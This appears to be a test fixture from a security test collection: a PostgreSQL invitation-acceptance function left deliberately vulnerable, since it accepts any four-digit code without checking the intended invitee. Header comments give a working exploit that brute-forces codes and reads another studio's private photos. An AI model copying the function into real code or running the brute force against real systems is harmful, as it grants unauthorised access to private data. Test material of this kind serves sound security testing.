-- Any user becomes a member of any studio with an open invitation, because four digits can be tried out and
-- nothing asks for whom the invitation was.
-- about: accept_invitation, invitations, members, photos
-- as: hf_framevault_app
-- exploit: SET request.jwt.claims = '{"sub": "a1f00000-0000-4000-8000-00000000000a"}';
-- exploit: SELECT count(stock.accept_invitation(lpad(n::text, 4, '0'))) FROM generate_series(4000, 5000) n;
-- exploit: SELECT title FROM stock.photos;
-- shows: Road-secret photo
CREATE FUNCTION stock.accept_invitation(p_code text) RETURNS text
LANGUAGE sql SECURITY DEFINER SET search_path = stock, pg_temp AS $$
  WITH used AS (DELETE FROM stock.invitations WHERE code = p_code RETURNING studio_id)
  INSERT INTO stock.members (studio_id, user_id)
  SELECT used.studio_id, stock.uid() FROM used
  ON CONFLICT DO NOTHING
  RETURNING studio_id
$$;
REVOKE ALL ON FUNCTION stock.accept_invitation(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION stock.accept_invitation(text) TO hf_framevault_app;
